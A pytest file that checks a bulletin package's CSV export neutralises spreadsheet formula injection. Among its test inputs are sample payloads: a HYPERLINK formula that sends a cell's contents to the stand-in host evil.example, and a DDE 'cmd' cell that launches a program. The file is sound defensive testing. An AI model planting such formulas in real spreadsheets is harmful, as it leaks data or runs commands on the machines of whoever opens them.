"""Cells no spreadsheet can run (OWASP's advice on CSV injection), and the CSV of tables and
figures, which write through them."""

from __future__ import annotations

import csv
import io

import pytest

from bulletin.core.measure import Measure
from bulletin.core.spreadsheet import safe_cell, to_csv


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&B2,"Camden")',
            '\'=HYPERLINK("https://evil.example/?x="&B2,"Camden")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Camden", "Camden"),
        ("King's Lynn and West Norfolk", "King's Lynn and West Norfolk"),
        ("-1.5", "-1.5"),  # a number, not text
        ("404710", "404710"),
        ("c", "c"),
        ("", ""),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-", "'-"),
        ("+12", "+12"),  # a signed number (a change, +0.31) is a number
        ("-1.5e3", "'-1.5e3"),  # not a plain number: neutralised
        ("5% to 10%", "5% to 10%"),
        ("a=b", "a=b"),  # only the first character matters
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised(text: str, written: str) -> None:
    assert safe_cell(text) == written


def test_the_csv_of_a_table_neutralises_a_formula_name_and_keeps_numbers() -> None:
    from bulletin.tables import Cell, Column, Row, Table
    from bulletin.tables import to_csv as table_csv

    table = Table(
        "tbl-x",
        "area_name",
        (Column("area_code", False),),
        (Column("children"), Column("change")),
        (
            Row(
                '=HYPERLINK("https://evil.example","Camden")',
                ("E09000007",),
                (Cell("12"), Cell("-3")),
            ),
            Row("@Rutland", ("E06000017",), (Cell("c", "c"), Cell("-0.5"))),
        ),
        "source",
    )
    rows = list(csv.reader(io.StringIO(table_csv(table))))
    assert rows == [
        ["area_name", "area_code", "children", "change"],
        ['\'=HYPERLINK("https://evil.example","Camden")', "E09000007", "12", "-3"],
        ["'@Rutland", "E06000017", "c", "-0.5"],
    ]


def test_the_csv_of_a_figure_neutralises_its_labels() -> None:
    from bulletin.charts import LineChart, Series
    from bulletin.charts import to_csv as chart_csv
    from bulletin.core.formatting import fmt_count

    chart = LineChart(
        id="fig-x",
        subject="the number of children",
        category_key="year",
        categories=("=HYPERLINK(1)", "2018"),
        series=(Series("children", "Children", (Measure.count(3000), Measure.count(4000))),),
        value_label="Children",
        fmt=fmt_count,
    )
    assert to_csv(["a"], []) == "a\n"
    assert chart_csv(chart) == "year,children\n'=HYPERLINK(1),3000\n2018,4000\n"
